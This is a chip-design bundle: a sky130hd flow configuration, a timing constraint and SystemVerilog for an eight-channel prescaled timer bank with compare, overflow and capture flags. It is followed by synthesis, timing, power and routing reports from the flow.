### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = multi_timer_bank
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/multi_timer_bank.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 5
export CORE_MARGIN = 2
export CORE_UTILIZATION = 25
export CTS_CLUSTER_DIAMETER = 40
export CTS_CLUSTER_SIZE = 12
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.49
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
### constraint.sdc
create_clock -name clk -period 36.2 [get_ports clk]
set_input_delay 3.62 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 3.62 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
### src/rtl/multi_timer_bank.sv
// multi_timer_bank: NUM_CH parallel prescaled timers with compare, flags and irq.
// Optional capture inputs enabled by defining TIMER_CAPTURE_EN.
module multi_timer_bank #(
  parameter int NUM_CH = 8,
  parameter int CNT_W = 32,
  parameter int PRE_W = 8,
  localparam int CH_W = (NUM_CH > 1) ? $clog2(NUM_CH) : 1
) (
  input  logic              clk,
  input  logic              rst,
  input  logic              cfg_we,
  input  logic [CH_W-1:0]   cfg_ch,
  input  logic [1:0]        cfg_addr,
  input  logic [CNT_W-1:0]  cfg_wdata,
  input  logic [NUM_CH-1:0] flag_clr,
  input  logic [NUM_CH-1:0] irq_mask,
  input  logic [NUM_CH-1:0] capture_in,
  input  logic [CH_W-1:0]   rd_ch,
  output logic [CNT_W-1:0]  rd_cnt,
  output logic [CNT_W-1:0]  rd_cap,
  output logic [NUM_CH-1:0] match_flag,
  output logic [NUM_CH-1:0] ovf_flag,
  output logic [NUM_CH-1:0] cap_flag,
  output logic              irq
);

  logic [CNT_W-1:0]  cnt [NUM_CH];
  logic [CNT_W-1:0]  cmp [NUM_CH];
  logic [PRE_W-1:0]  pc  [NUM_CH];
  logic [PRE_W-1:0]  pre [NUM_CH];
  logic [NUM_CH-1:0] en;
  logic [NUM_CH-1:0] per;

  logic [NUM_CH-1:0] cmp_hit;
  logic [NUM_CH-1:0] pre_hit;
  logic [NUM_CH-1:0] ctl_hit;
  logic [NUM_CH-1:0] clr_hit;
  logic [NUM_CH-1:0] tick;
  logic [NUM_CH-1:0] at_cmp;
  logic [NUM_CH-1:0] at_max;
  logic [NUM_CH-1:0] match_set;
  logic [NUM_CH-1:0] ovf_set;
  logic [CNT_W-1:0]  rd_cnt_d;

  // Decode config writes and per-channel tick/match/overflow events
  always_comb begin
    cmp_hit   = '0;
    pre_hit   = '0;
    ctl_hit   = '0;
    clr_hit   = '0;
    tick      = '0;
    at_cmp    = '0;
    at_max    = '0;
    match_set = '0;
    ovf_set   = '0;
    for (int i = 0; i < NUM_CH; i++) begin
      if (cfg_we && cfg_ch == CH_W'(i)) begin
        cmp_hit[i] = (cfg_addr == 2'd0);
        pre_hit[i] = (cfg_addr == 2'd1);
        ctl_hit[i] = (cfg_addr == 2'd2);
        clr_hit[i] = (cfg_addr == 2'd3);
      end
      tick[i]      = en[i] && (pc[i] == pre[i]);
      at_cmp[i]    = (cnt[i] == cmp[i]);
      at_max[i]    = &cnt[i];
      match_set[i] = tick[i] && !clr_hit[i] && at_cmp[i];
      ovf_set[i]   = tick[i] && !clr_hit[i] && !at_cmp[i] && at_max[i];
    end
  end

  // Channel state: config, prescaler, counter and sticky flags
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      for (int i = 0; i < NUM_CH; i++) begin
        cnt[i] <= '0;
        cmp[i] <= '1;
        pc[i]  <= '0;
        pre[i] <= '0;
      end
      en         <= '0;
      per        <= '0;
      match_flag <= '0;
      ovf_flag   <= '0;
    end else begin
      for (int i = 0; i < NUM_CH; i++) begin
        if (clr_hit[i]) begin
          cnt[i] <= '0;
          pc[i]  <= '0;
        end else if (tick[i]) begin
          pc[i] <= '0;
          if (at_cmp[i]) begin
            if (per[i]) cnt[i] <= '0;
          end else if (at_max[i]) begin
            cnt[i] <= '0;
          end else begin
            cnt[i] <= cnt[i] + 1'b1;
          end
        end else if (en[i]) begin
          pc[i] <= pc[i] + 1'b1;
        end
        if (cmp_hit[i]) cmp[i] <= cfg_wdata;
        if (pre_hit[i]) pre[i] <= cfg_wdata[PRE_W-1:0];
        if (ctl_hit[i]) begin
          per[i] <= cfg_wdata[1];
          en[i]  <= cfg_wdata[0];
          if (cfg_wdata[0] && !en[i]) pc[i] <= '0;
        end else if (match_set[i] && !per[i]) begin
          en[i] <= 1'b0;
        end
      end
      match_flag <= (match_flag & ~flag_clr) | match_set;
      ovf_flag   <= (ovf_flag & ~flag_clr) | ovf_set;
    end
  end

  // Readback mux; out-of-range channel reads 0
  always_comb begin
    rd_cnt_d = '0;
    for (int i = 0; i < NUM_CH; i++) begin
      if (rd_ch == CH_W'(i)) rd_cnt_d = cnt[i];
    end
  end

  // Registered readback and interrupt
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      rd_cnt <= '0;
      irq    <= 1'b0;
    end else begin
      rd_cnt <= rd_cnt_d;
      irq    <= |(match_flag & irq_mask);
    end
  end

`ifdef TIMER_CAPTURE_EN
  logic [NUM_CH-1:0] cap_s1;
  logic [NUM_CH-1:0] cap_s2;
  logic [NUM_CH-1:0] cap_s3;
  logic [NUM_CH-1:0] cap_rise;
  logic [NUM_CH-1:0] cap_flag_q;
  logic [CNT_W-1:0]  cap [NUM_CH];
  logic [CNT_W-1:0]  rd_cap_d;
  logic [CNT_W-1:0]  rd_cap_q;

  assign cap_rise = cap_s2 & ~cap_s3;

  // Synchronise capture inputs and latch the counter on a rising edge
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      cap_s1     <= '0;
      cap_s2     <= '0;
      cap_s3     <= '0;
      cap_flag_q <= '0;
      rd_cap_q   <= '0;
      for (int i = 0; i < NUM_CH; i++) cap[i] <= '0;
    end else begin
      cap_s1     <= capture_in;
      cap_s2     <= cap_s1;
      cap_s3     <= cap_s2;
      cap_flag_q <= (cap_flag_q & ~flag_clr) | cap_rise;
      rd_cap_q   <= rd_cap_d;
      for (int i = 0; i < NUM_CH; i++) begin
        if (cap_rise[i]) cap[i] <= cnt[i];
      end
    end
  end

  // Capture readback mux
  always_comb begin
    rd_cap_d = '0;
    for (int i = 0; i < NUM_CH; i++) begin
      if (rd_ch == CH_W'(i)) rd_cap_d = cap[i];
    end
  end

  assign cap_flag = cap_flag_q;
  assign rd_cap   = rd_cap_q;
`else
  logic unused_capture;
  assign unused_capture = ^capture_in;
  assign cap_flag = '0;
  assign rd_cap   = '0;
`endif

endmodule

---- After elaboration in Yosys (flattened, before gate mapping) ----
Cells that the tools add are included.
word-level totals
  register bits after elaboration ......... 705
  output and inout bits ................... 89
  word-level logic and storage cells ...... 383
cells by class
  add/subtract/negate cells ............... 16
  equal/unequal tests ..................... 41
  muxes and demuxes ....................... 136
  bitwise logic cells ..................... 6
  reduce and logical (&&, ||, !) cells .... 132
operators with widths
  cell                     number
  $mux W32                 48
  $mux W8                  40
  $add A32 B1 Y32 const B  8
  $eq A32 B32 Y1           8
  $reduce_and A32 Y1       8
  $add A8 B1 Y8 const B    8
  $eq A8 B8 Y1             8
  $logic_and A1 B1 Y1      64
  $mux W1                  48
  $logic_not A1 Y1         32
  $reduce_bool A2 Y1       16
  $and A8 B8 Y8            3
  $eq A3 B3 Y1 const B     8
  $ne A3 B3 Y1 const B     8
  $or A8 B8 Y8             2
  $reduce_and A2 Y1        8
  $eq A3 B2 Y1 const B     4
  $not A8 Y8               1
  $reduce_or A8 Y1         1
  $eq A3 B1 Y1 const B     2
  $logic_not A3 Y1         2
  $eq A2 B2 Y1 const B     2
  $eq A2 B1 Y1 const B     1
  $logic_not A2 Y1         1

---- Depth between registers and ports, before layout ----
  word-level depth ........................ 9
  mapped depth ............................ 14

---- Worst setup path after synthesis ----
No wires, ideal clock.
  path type ............................... input to register
  start ................................... in cfg_addr[0]
  end ..................................... reg cnt[40] (netlist name)
  setup time .............................. 123 ps
  arrival ................................. 4,737 ps
  required time ........................... 36,077 ps
  path slack .............................. 31,339 ps
  cell stages on the path ................. 10
  path through ............................ nand2_1 -> inv_2 -> nand2_2 -> inv_2 -> or2_1 -> inv_2 -> nand3_1 -> nand2_2 -> buf_2 -> o21ai_1
between the ends
  word-level cells in the longest chain between the ends .. 4
  elaborated cells between the ends (all ways) .. 6
  those cells by class .................... 2 x eq/ne; 2 x mux; 2 x reduce/logical
ends and longest elaborated chain
  element                                                              line  text
  from (decl)                                                          13    input logic [1:0] cfg_addr,
  $eq A2 B2 Y1 *                                                       61    clr_hit[i] = (cfg_addr == 2'd3);
  $mux W1 *                                                            57    if (cfg_we && cfg_ch == CH_W'(i)) begin
  $ne A3 B3 Y1 (no line) / $reduce_bool A2 Y1 (equally long branches)  n/a
  $reduce_and A2 Y1 (no line)                                          n/a
  to (signal, indexed assignment)                                      96    cnt[i] <= cnt[i] + 1'b1;
  to (decl)                                                            27    logic [CNT_W-1:0] cnt [NUM_CH];
Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not.
A chain may end at the register's enable or synchronous reset.

---- Worst setup path in the final report ----
  start ................................... in rd_ch[2]
  end ..................................... reg rd_cnt[28]
between the ends
  word-level cells in the longest chain between the ends .. 9
  elaborated cells between the ends (all ways) .. 16
  those cells by class .................... 7 x eq/ne; 8 x mux; 1 x reduce/logical
ends and longest elaborated chain
  element                 line  text
  from (decl)             18    input logic [CH_W-1:0] rd_ch,
  $logic_not A3 Y1        120   if (rd_ch == CH_W'(i)) rd_cnt_d = cnt[i];
  $mux W32 (7 in series)  120
  $mux W32 *              120
  net rd_cnt_d[28]        43    logic [CNT_W-1:0] rd_cnt_d;
  to (signal assigned)    130   rd_cnt <= rd_cnt_d;
  to (decl)               19    output logic [CNT_W-1:0] rd_cnt,
The timed path passes the listed nets; every way through them passes the cells marked *.

==> flow_summary.toml <==
[yosys]
synth_seq_cells = 705
syn_area_per_cell_um2 = 6.830
yosysSeqAreaShare_pct = 40.62
postSynthCellCount = 6475
synth.top_cell.area_share_pct = 25.41
ys_types = 46
synthTopCellsByArea = "dfrtp_1 (25%), nand2_1 (19%), dfstp_2 (15%), nor2_1 (7.2%), o21ai_0 (4.9%)"
synth_top_area_cell = "dfrtp_1"
ys_warn_count = 0
netlist_area_mm2 = 0.04422

[route]
ant_nets = 0
vias_per_cell = 4.645
routedWlPerCell_um = 19.72
drc = 0
first_pass_iters = 7
vias = 41440
dr.first_iter.drc_count = 3779
drt_wl_total_mm = 175.9

[floorplan]
dieWidth_um = 424.6
core_mm2 = 0.1759
start_util_pct = 25.14
die_h_um = 424.6
die_area_mm2 = 0.1803
boundaryPins = 156
num_rows = 154

[clock_tree]
path_clk_slew_ns = 0.05
cts_buffers = 140
clock_latency_ns = 0.80
htreeDepth = 4
cts_root_buf = "clkbuf_16"
ctsResizeCount = 0
hold_buffers = 0
clock-sinks = 705
post_cts_buffers = 0
tritoncts = "yes"
cts.path.max_buffers = 3

[final_layout]
fill_cells = 19140
fin_nets = 6541
multiInputGateArea_mm2 = 0.02271
drive_above_1_share_pct = 10.20
ff_latch_area_mm2 = 0.01796
area.growth.synth_to_final_pct = 17.63

[grt]
antenna_found_initial = 17
grt_pass1_vias = 38520
grt_pass1_wl_mm = 259.2
grt_usage_pct = 19.25
grt_overflow = 0
grt_max_degree = 135

[critical_path]
regToRegSetupSlack_ns = 33.27
crit_arrival_ns = 7.14
timing.rr.end = "cnt[150]"
reg2reg_depth = 10
r2r_start = "cnt[128]"
cp-endpoint = "rd_cnt[28]"
cp_max_fo = 17
path_class = "in2reg"
crit_required_ns = 36.67
cp-start-kind = "primary input"
critPathLaunch = "rd_ch[2]"
setup.worst_path.end_class = "flop"

[timing]
max_freq_mhz = 150.0
slew_headroom_pct = 13.08
hold_viol = 0
worst_pin_slew_ns = 1.292
rsz0062_at_grt = "no"
fin_tns_setup_ns = 0
drv_slew = 0
timing.final.crit_share_pct = 18.42
holdWs_ns = 0.4807
finalSetupViolations = 0
finalCriticalPeriod_ns = 6.668
skew_ns = 0.05672
fin_ws_ns = 29.53

[min_path]
hp-class = "reg2reg"

[placed_design]
dp_hpwl_mm = 126.2
gp_congestion = 0.9392
dp_slack_ns = 28.80
io_buffer_count = 107

[power_and_ir_drop]
power_density_mw_per_mm2 = 55.89
vdd_ir_drop_max_uv = 50.97
power.leakage_nw = 21.40

[status]
status = "finished clean"

[job]
drv_cap = 0
## cells in the final DEF (no fill, tap or decap), types with 114 or more instances in the layout
master | synthesis | final
nand2_1 | 2275 | 2264
nor2_1 | 845 | 845
inv_1 | 519 | 518
dfrtp_1 | 449 | 449
o21ai_0 | 433 | 433
nand3_1 | 396 | 396
dfstp_2 | 256 | 256
xnor2_1 | 203 | 203
o21ai_1 | 195 | 195
clkbuf_16 | 0 | 146
xor2_1 | 114 | 114
## cells in the mapped netlist (all sizes together)
master,instances
nor3,32
ha,16
a21oi,59
and2,2
o22ai,29
a22o,1
clkinv,2
nor4,13
clkbuf,167
conb,1
nand2,2293
and3,4
o21bai,6
nor3b,3
inv,540
xnor2,203
dfrtp,449
nor2b,1
nand4,63
nand3b,83
o21ai,628
or2,27
o221ai,2
xor2,114
buf,186
nand3,402
a221oi,2
o211ai,14
nor2,876
dfstp,256
mux2i,1
## where the power goes
group	switching (mW)	internal (mW)	total, mW
Clock	0.487	0.876	1.36
Sequential	0.109	0.930	1.04
Combinational	0.326	0.180	0.505
## logic make-up (layout without fill, tap and decap cells)
kind of cell               after synthesis  in the layout  synth area share, %
AOI/OAI and AO/OA                      741            741                8.646
xor gates and xnor gates               317            317                6.278
adders and majority gates               16             16               0.4527
buffers and inverters                  895            957                8.629
DFF                                    705            705                40.62
muxes                                    1              1              0.02263
other                                    1             45             0.008480
and+or+nand+nor                       3799           3799                35.35
## final cells by class
| type | instances | area share [%] |
|---|---|---|
| Clock inverter | 89 | 2.028 |
| Timing Repair Buffer | 155 | 2.783 |
| Antenna cell | 5 | 0.02405 |
| Tap cell | 2340 | 5.628 |
| Sequential cell | 705 | 34.53 |
| Inverter | 542 | 3.925 |
| Clock buffer | 171 | 7.416 |
| Multi-Input combinational cell | 4914 | 43.67 |
## per-stage QoR
stage               utilization (%)  cell area, um^2  power [mW]  std cells
floorplan                         -            44370       1.402       6514
global placement              26.73            47020       1.541       8656
detailed placement            26.73            47030       1.551       8656
CTS                           29.53            51940       2.930       8916
global route                  29.56            52010       3.052       8916
finish                        29.57            52020       2.907       8921
## critical path, cell delays in order
cell,delay [ns]
clkdlybuf4s50_1,0.71
inv_2,0.22
nand2_1,0.40
buf_4,0.33
o22ai_1,0.26
nor4_1,0.97
nand4_1,0.60
## how the worst min path moves through the flow
stage | from | endpoint | slack [ns] | cells after the start
floorplan | per[0] | per[0] | 0.45 | 2
global placement | per[4] | per[4] | 0.46 | 2
global route | cmp[99] | cmp[99] | 0.51 | 2
finish | ovf_flag[0] | ovf_flag[0] | 0.48 | 2
CTS | pre[49] | pre[49] | 0.49 | 2
detailed placement | pre[49] | pre[49] | 0.48 | 2
## state kept, by name, summed over array words and instances (netlist names)
register,flops
en,8
rd_cnt,32
per,8
pc,64
irq,1
match_flag,8
cmp,256
cnt,256
pre,64
ovf_flag,8
## per-layer routing
layer | GRT usage [%] | part of all wire [%] | vias to the layer above
met5 | 0 | 0.0074 | -
met4 | 8.909 | 4.4 | 2
met3 | 2.629 | 5.6 | 267
met2 | 31.36 | 47 | 1295
met1 | 25.19 | 43 | 19620
li1 | - | - | 20250
Power figures use the tool's default switching activity.
